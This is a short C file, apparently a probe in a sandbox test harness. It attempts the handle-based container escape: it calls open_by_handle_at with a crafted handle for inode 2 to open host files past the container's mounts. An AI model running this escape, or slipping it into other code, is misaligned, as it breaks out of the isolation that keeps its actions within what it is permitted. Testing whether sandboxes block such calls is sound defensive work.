/* Opens files by handle, past all mounts: the classic way out of a container. */
#include "attack.h"
struct handle {
    struct file_handle head;
    unsigned char bytes[128];
};
static long root_by_handle(void) {
    struct handle h = {.head = {.handle_bytes = 8, .handle_type = 1}, .bytes = {2}};
    int mount = open("/", O_RDONLY);
    return open_by_handle_at(mount, &h.head, O_RDONLY);
}
int main(void) {
    ATTEMPT("open_by_handle_at of inode 2", root_by_handle());
    return 0;
}
